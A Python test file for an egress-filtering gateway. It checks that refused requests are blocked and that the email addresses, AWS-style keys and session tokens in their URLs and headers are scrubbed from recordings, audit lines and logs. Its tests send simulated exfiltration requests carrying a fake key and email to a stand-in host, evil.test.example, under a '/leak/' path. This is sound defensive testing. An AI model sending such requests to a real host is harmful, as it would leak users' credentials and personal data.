"""A refused request was never redacted: PII in its URL path must not reach the recording, the
audit line or the gateway's log (the query and body are dropped; the path is scrubbed)."""

from __future__ import annotations

import time

import httpx
from gwharness import Gateway, Upstream, policy_yaml
from mitmproxy import io as mio

EMAIL = "victor.pii@example.com"
KEY = "AKIAIOSFODNN7EXAMPLQ"


def test_refused_path_is_scrubbed_in_recording_and_audit(tmp_path, confdir):
    up = Upstream("never")
    gw = Gateway(tmp_path, policy_yaml(allow=[{"host": "api.test.example", "ports": [up.port]}],
                                       resolve={"api.test.example": "127.0.0.1"}),
                 confdir=confdir, extra_args=["--set", f"gateway_recordings={tmp_path}"])
    try:
        r = httpx.get(f"http://evil.test.example:{up.port}/leak/{EMAIL}/{KEY}/tail?q={KEY}",
                      proxy=gw.proxy)
        assert r.status_code == 403
        time.sleep(0.3)
    finally:
        gw.stop()
        up.close()
    blob = b"".join(p.read_bytes() for p in tmp_path.rglob("*") if p.is_file())  # log included
    assert b"victor.pii" not in blob and KEY.encode() not in blob and b"AKIAIOSF" not in blob
    (line,) = [rec for rec in gw.audit() if rec.get("kind") == "http"]
    assert line["path"] == "/leak/%3CEMAIL_ADDRESS%3E/%3CAWS_ACCESS_KEY_ID%3E/tail"
    (flow,) = [f for p in tmp_path.rglob("*.mitm") for f in mio.FlowReader(open(p, "rb")).stream()]
    assert flow.request.path == line["path"]
    assert flow.metadata["gateway"]["recording"]["path_redacted"] is True
    assert up.connections == 0


def test_a_policy_that_scans_nothing_scrubs_by_shape_and_starts_no_worker(tmp_path, confdir):
    """Redaction off: nothing is analysed, so no scan worker may start for a refused URL or a
    session id (two processes, ~300 MB; the first refusal waited 2.5 s for them). Their shapes
    decide instead: every segment and label that could carry a pattern is withheld."""
    import subprocess

    up = Upstream("never")
    gw = Gateway(tmp_path, policy_yaml(allow=[{"host": "api.test.example", "ports": [up.port]}],
                                       resolve={"api.test.example": "127.0.0.1"},
                                       redact={"enabled": False}),
                 confdir=confdir, extra_args=["--set", f"gateway_recordings={tmp_path}"])
    token = "ghp_" + "Ab1" * 12
    try:
        r = httpx.get(f"http://{KEY.lower()}.evil.test.example:{up.port}/leak/{EMAIL}/v1/{KEY}"
                      f"/tail?q={KEY}", proxy=gw.proxy, headers={"X-Agent-Session": token})
        assert r.status_code == 403
        r = httpx.get(f"http://evil.test.example:{up.port}/plain/path",
                      proxy=gw.proxy, headers={"X-Agent-Session": "ci-run-7"})
        assert r.status_code == 403
        time.sleep(0.3)
        children = subprocess.run(["pgrep", "-P", str(gw.proc.pid)], capture_output=True,
                                  text=True).stdout.split()
        assert children == []  # no scan worker process
    finally:
        gw.stop()
        up.close()
    blob = b"".join(p.read_bytes() for p in tmp_path.rglob("*") if p.is_file())  # log included
    for raw in (b"victor.pii", KEY.encode(), KEY.lower().encode(), token.encode()):
        assert raw not in blob
    first, second = [rec for rec in gw.audit() if rec.get("kind") == "http"]
    assert first["path"] == "/leak/withheld/v1/withheld/tail"
    assert first["host"] == "withheld.test.example" and first["session"].startswith("withheld-")
    assert second["path"] == "/plain/path" and second["host"] == "evil.test.example"
    assert second["session"] == "ci-run-7"
    assert "scan worker" not in gw.log_text()
